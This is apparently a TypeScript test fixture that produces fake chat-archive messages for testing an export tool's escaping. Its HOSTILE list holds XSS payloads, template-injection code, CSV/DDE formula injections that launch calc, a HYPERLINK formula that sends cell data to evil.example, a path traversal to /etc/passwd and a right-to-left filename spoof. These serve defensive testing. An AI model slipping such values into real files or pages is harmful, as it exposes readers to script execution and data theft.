/** Messages as people, and people who mean harm, write them: the same for the same number. */
import { createHash } from "node:crypto";
import type { ArchivedChat, ArchiveOrder, ArchiveSource } from "../../src/archive/index.ts";
import type { MediaType, StoredMessage } from "../../src/core/media.ts";
import type { MessageExtra, TextEntity } from "../../src/core/message-extra.ts";
import { TEXT_ENTITY_TYPES } from "../../src/core/message-extra.ts";
import { seededRandom } from "./random.ts";

export const CHAT: ArchivedChat = {
  chatId: -1001500000137,
  type: "supergroup",
  title: 'Family & "friends" <script>alert(1)</script>',
  username: "family",
  isSelf: false,
  isBot: false,
  upTo: Number.MAX_SAFE_INTEGER,
};

export const HOSTILE = [
  "<script>window.hurt=1</script>",
  '"><img src=x onerror="window.hurt=1">',
  "</style></script></title><svg onload=window.hurt=1>",
  "javascript:window.hurt=1",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+1|cmd' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "a\0b\u0001c\u001fd",
  "half \ud83d and \ude00 half",
  "line one\r\nline two\nline three\u2028four\u2029five",
  'quotes "inside" and, commas; and semicolons',
  "\u202Eevil\u202C txt.exe",
  "&lt;b&gt; &amp; &#60;",
  "{{constructor.constructor('window.hurt=1')()}}",
  "]]> <!-- --> --!> <![CDATA[",
  "../../../../etc/passwd",
  "שלום עולם, this is עברית with English",
  "漢字かな交じり文。中文字符和標點，全部保留。",
  "👩‍👩‍👧‍👦 family 🇺🇦 flag ❤️‍🔥",
  "Ꙩ𝕳𝖊𝖑𝖑𝖔 \u0301\u0302\u0303 zalgo",
  "",
];

const SERVICES: [service: string, extra: MessageExtra][] = [
  ["chat_create", { action: { title: HOSTILE[0]!, users: [{ id: 1, name: HOSTILE[1]! }] } }],
  [
    "chat_add_user",
    {
      action: {
        users: [
          { id: 2, name: "Ben" },
          { id: 3, name: null },
        ],
      },
    },
  ],
  ["chat_edit_title", { action: { title: HOSTILE[2]! } }],
  ["pin_message", {}],
  ["phone_call", { action: { duration: 65, reason: "hangup", video: true } }],
  ["something_newer", { action: { field: HOSTILE[4]! } }],
];

const MEDIA: MediaType[] = ["photo", "video", "document", "audio", "voice", "sticker", "animation"];
const START = Date.UTC(2021, 10, 30, 21, 50);

export interface Flavour {
  /** Milliseconds between two messages. */
  step?: number;
  plain?: boolean;
}

export function archiveMessage(index: number, { step = 3_700_000, plain = false }: Flavour = {}): StoredMessage {
  const random = seededRandom(index).next;
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const text = plain
    ? `Message number ${index}: ${"words and words ".repeat(1 + (index % 5))}`
    : pick(HOSTILE) + (index % 3 === 0 ? ` #${index} ${pick(HOSTILE)}` : "");
  const isService = !plain && index % 17 === 0;
  const service = isService ? SERVICES[index % SERVICES.length]! : null;
  const carries = !isService && index % 4 === 1;
  const type: MediaType = carries ? MEDIA[index % MEDIA.length]! : "none";
  const messageId = index * 2 + 1;
  return {
    chatId: CHAT.chatId,
    messageId,
    date: new Date(START + index * step),
    editedAt: index % 11 === 0 ? new Date(START + index * step + 60_000) : null,
    senderId: index % 5 === 0 ? CHAT.chatId : 5_000_000 + (index % 7),
    senderName: index % 13 === 0 ? null : plain ? `Sender ${index % 7}` : pick(HOSTILE) || "Anna",
    outgoing: index % 3 === 0,
    text: isService ? "" : text,
    albumId: index % 9 === 0 ? "13370000001" : null,
    topicId: null,
    replyToId: index > 0 && index % 6 === 0 ? Math.max(1, messageId - 2 * (1 + (index % 40))) : null,
    service: service?.[0] ?? null,
    media: {
      type,
      round: type === "video" && index % 2 === 0,
      fileName: carries ? `${pick(HOSTILE)}.bin` : null,
      mimeType: carries
        ? type === "photo"
          ? "image/jpeg"
          : type === "video"
            ? "video/mp4"
            : "application/octet-stream"
        : null,
      size: carries ? 1000 + index : null,
      fileKey: carries ? `document:${index}` : null,
      dcId: carries ? 2 : null,
      duration: type === "video" ? 12.5 : null,
      width: type === "photo" ? 800 : null,
      height: type === "photo" ? 600 : null,
      restricted: false,
    },
    extra: service ? service[1] : plain ? {} : extraOf(index, text),
    status: "retrieved",
    retrievedAt: new Date(START),
    retrievedHostname: "here",
    downloadHostname: null,
    localFilePath: null,
    sha256: null,
    rootId: null,
  };
}

function extraOf(index: number, text: string): MessageExtra {
  const entities = entitiesOf(index, text);
  const hostile = HOSTILE[index % HOSTILE.length]!;
  const extra: MessageExtra = entities.length > 0 ? { entities } : {};
  if (index % 8 === 0) extra.forward = { date: 1_600_000_000, from: { id: 77, name: hostile } };
  if (index % 10 === 0)
    extra.reactions = [{ emoji: "👍", count: 3 }, { customEmojiId: "5368", count: 1 }, { count: 2 }];
  if (index % 12 === 0)
    extra.poll = {
      question: hostile,
      answers: [{ text: hostile, voters: 2, chosen: true }],
      totalVoters: 2,
      closed: false,
      quiz: false,
      multiple: false,
      anonymous: true,
    };
  if (index % 14 === 0) extra.linkPreview = { url: "javascript:window.hurt=1", title: hostile, description: hostile };
  if (index % 15 === 0)
    extra.buttons = [
      [
        { kind: "url", text: hostile, data: hostile },
        { kind: "callback", text: "x", data: "eDox" },
      ],
    ];
  if (index % 16 === 0) extra.contact = { phone: "380501234567", firstName: hostile, lastName: "" };
  if (index % 18 === 0) extra.viaBot = { id: 9, name: "somebot" };
  if (index % 19 === 0) extra.quote = hostile;
  if (index % 21 === 0) extra.place = { latitude: 50.45, longitude: 30.52 };
  return extra;
}

function entitiesOf(index: number, text: string): TextEntity[] {
  const random = seededRandom(1_000_000 + index).next;
  return Array.from({ length: index % 6 }, () => {
    const type = TEXT_ENTITY_TYPES[Math.floor(random() * TEXT_ENTITY_TYPES.length)]!;
    const offset = Math.floor(random() * (text.length + 2));
    const entity: TextEntity = { type, offset, length: Math.floor(random() * 12) };
    if (type === "text_link") entity.url = HOSTILE[index % HOSTILE.length]!;
    return entity;
  });
}

export function archiveOrder(format: ArchiveOrder["format"], more: Partial<ArchiveOrder> = {}): ArchiveOrder {
  return {
    id: "order-1",
    format,
    media: false,
    look: { timeZone: "Europe/Kyiv", csvBom: true, csvEscapeFormulas: true },
    createdAt: "2026-11-22T12:00:00.000Z",
    filter: null,
    all: false,
    chats: [CHAT],
    ...more,
  };
}

/** `count` messages of every chat, in pages as the database gives them. */
export function archiveSource(
  count: number,
  flavour: Flavour & { page?: number; onPage?: (from: number) => void } = {},
): ArchiveSource {
  return {
    async *read(chat, afterId) {
      const page = flavour.page ?? 1_000;
      for (let from = Math.max(0, Math.ceil((afterId - 0.5) / 2)); from < count; from += page) {
        flavour.onPage?.(from);
        const size = Math.min(page, count - from);
        const messages = Array.from({ length: size }, (_, index) => archiveMessage(from + index, flavour));
        yield messages
          .filter(({ messageId }) => messageId > afterId)
          .map((message) => ({ ...message, chatId: chat.chatId }));
      }
    },
    place: async ({ media }) => (media.type === "none" ? null : { absent: "not-wanted" }),
  };
}

export const digest = (bytes: Uint8Array): string => createHash("sha256").update(bytes).digest("hex");
